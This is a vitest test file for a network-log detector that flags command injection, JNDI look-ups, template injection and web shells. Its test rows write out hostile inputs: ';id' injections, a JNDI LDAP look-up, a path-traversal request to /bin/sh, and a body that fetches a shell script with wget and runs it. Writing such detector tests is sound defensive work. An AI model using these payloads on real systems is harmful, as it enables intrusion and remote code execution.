// biome-ignore-all lint/suspicious/noTemplateCurlyInString: look-ups are spelt like that.
import { describe, expect, test } from 'vitest';
import { http } from '../../../../test/build/http-rows.ts';
import { knownEnds, type LogRow } from '../../../../test/build/rows.ts';
import { describeDetector, findingsOf, readFixture } from '../../../../test/contract/detector.ts';
import { commandInjection } from './command-injection.ts';

// The fixtures are written by hand after captures of the laboratory; no foreign traffic is in them.
describeDetector(commandInjection, import.meta.dirname);

const attacker = '198.51.100.66:52110';
const victim = '10.0.1.12:3000';

describe('an attack from outside', () => {
  const findings = findingsOf(commandInjection, readFixture(`${import.meta.dirname}/fixtures/fires.ndjson`));

  test('is about the attacker, never above medium, with endpoint, parameter, payload and answers', () => {
    const [shell] = findings.filter(({ subject }) => subject.address === '198.51.100.66');
    expect(shell).toMatchObject({
      severity: 'medium',
      title: 'Command injection: reverse shell',
      peers: [{ address: '10.0.1.12', port: 3000 }],
      count: 2,
      evidence: {
        endpoint: '/dangerzone',
        parameter: 'category',
        verdict: 'attempt only',
        callbacks: [{ end: '203.0.113.162:3000', kind: 'shell' }],
      },
    });
    expect(shell?.evidence['endpoints']).toMatchObject([
      { path: '/dangerzone', parameter: 'category', attempts: 2, statusCodes: { 200: 1, 500: 1 }, responseBytes: { least: 21, most: 130 } },
    ]);
    expect(findings.every(({ severity }) => severity === 'medium' || severity === 'low')).toBe(true);
  });

  test('is found in bodies, in other protocols, and in the use of a web shell', () => {
    expect(findings.map(({ subject, title }) => [subject.address, title])).toEqual(
      expect.arrayContaining([
        ['198.51.100.7', 'JNDI look-up injection'],
        ['198.51.100.8', 'SQL injection'],
        ['198.51.100.9', 'Command injection: reverse shell'],
        ['198.51.100.10', 'Web shell in use'],
      ]),
    );
  });

  test('says when an answer shows the output of a command, and still accuses only the attacker', () => {
    const row = http(0, attacker, victim, '/cgi-bin/.%2e/.%2e/.%2e/bin/sh', { resp_snippet: 'uid=33(www-data) gid=33(www-data)' });
    expect(findingsOf(commandInjection, [row])).toMatchObject([
      {
        severity: 'medium',
        confidence: 0.97,
        subject: { address: '198.51.100.66' },
        evidence: { commandOutput: 'uid=33(www-data) gid=33' },
      },
    ]);
  });

  test('is set aside, with the label, when the operator knows the attacker', () => {
    const row = http(0, attacker, victim, '/?c=;id');
    const known = knownEnds('pentest', '198.51.100.66/32');
    expect(findingsOf(commandInjection, [row], [], { known })).toMatchObject([
      { severity: 'info', summary: expect.stringContaining('pentest') },
    ]);
  });
});

describe('an attack by a machine of ours', () => {
  const attack = http(0, '10.0.0.7:40000', '203.0.113.80:80', '/?x=${jndi:ldap://203.0.113.9/a}');

  test('is high', () =>
    expect(findingsOf(commandInjection, [attack])).toMatchObject([{ severity: 'high', subject: { address: '10.0.0.7' } }]));

  test('is not high when it speaks for somebody else', () => {
    const relayed = http(0, '10.0.0.7:40000', '10.0.0.8:80', '/?c=;id', { proxied: ['X-FORWARDED-FOR -> 198.51.100.66'] });
    expect(findingsOf(commandInjection, [relayed])).toMatchObject([{ severity: 'medium', evidence: { forwardedFor: ['198.51.100.66'] } }]);
  });

  test('is not high when it is commands in data that programs exchange', () => {
    const build = http(0, '10.0.0.7:40000', '10.0.0.8:80', '/jobs', {
      method: 'POST',
      post_body: '{"script":"apt-get update && wget http://203.0.113.9/a.sh -O /tmp/a.sh; sh /tmp/a.sh"}',
    });
    expect(findingsOf(commandInjection, [build]).filter(({ severity }) => severity === 'high')).toEqual([]);
  });
});

describe('a web shell', () => {
  test('shows by answers that are the output of commands', () => {
    const row = http(0, attacker, victim, '/inc/header.php', { method: 'POST', resp_snippet: 'uid=33(www-data) gid=33(www-data)' });
    expect(findingsOf(commandInjection, [row])).toMatchObject([{ title: 'Web shell', confidence: 0.97 }]);
    const page = http(0, attacker, victim, '/wiki.php', { resp_snippet: `<html><body>${'text '.repeat(8)} uid=0(root) gid=0(root)` });
    expect(findingsOf(commandInjection, [page])).toEqual([]);
  });

  const posts = (body: (i: number) => string, from = (_i: number): string => attacker): LogRow[] =>
    Array.from({ length: 8 }, (_, i) =>
      http(i, from(i), victim, '/inc/header.jsp', { method: 'POST', post_body: body(i), response_body_len: 100 + 30 * i }),
    );
  const lump = (i: number): string =>
    btoa(`${String(i).repeat(7)}Zq9xK2mW7pLs4vB8nR3tY6uJ1hG5fD0cAeXo`)
      .repeat(2)
      .replaceAll('=', '');

  test('shows by nothing but encrypted lumps from one client', () => {
    expect(findingsOf(commandInjection, posts(lump))).toMatchObject([{ title: 'Web shell in use', severity: 'low' }]);
  });

  test('is not what many clients use, nor a form', () => {
    expect(
      findingsOf(
        commandInjection,
        posts(lump, (i) => `198.51.100.${i}:4000`),
      ),
    ).toEqual([]);
    expect(
      findingsOf(
        commandInjection,
        posts((i) => `name=Alice&page=${i}&text=hello`),
      ),
    ).toEqual([]);
  });
});

test('one attacker on many pages is one finding, and says how many it left out', () => {
  const rows = Array.from({ length: 80 }, (_, i) => http(i, attacker, victim, `/page${i}?c=;id`));
  expect(findingsOf(commandInjection, rows)).toMatchObject([{ count: 80, evidence: { requestsToUnlistedEndpoints: 30 } }]);
});

test('probes alone are worth a note from the third on', () => {
  const probes = Array.from({ length: 3 }, (_, i) => http(i, attacker, victim, `/?name={{${i}*7}}`));
  expect(findingsOf(commandInjection, probes.slice(0, 2))).toEqual([]);
  expect(findingsOf(commandInjection, probes)).toMatchObject([{ severity: 'low', title: 'Template injection' }]);
});
